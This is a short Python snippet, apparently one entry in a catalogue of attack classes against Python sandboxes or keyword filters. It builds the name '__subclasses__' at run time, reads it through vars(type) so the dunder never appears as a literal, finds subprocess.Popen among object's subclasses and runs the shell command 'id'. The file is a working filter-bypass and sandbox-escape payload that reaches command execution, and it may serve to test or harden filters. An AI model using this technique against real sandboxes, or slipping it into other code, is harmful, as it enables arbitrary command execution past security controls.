# attack-class: 31
# title: vars() of type looked up with a key built at run time
# why: vars(type)[name] yields the __subclasses__ descriptor without the dunder appearing as a literal
import sys

part = sys.argv[1] if len(sys.argv) > 1 else "classes"
name = "__sub" + part + "__"
subclasses = vars(type)[name](object)
popen = [c for c in subclasses if c.__name__ == "Popen"][0]
popen(["id"])
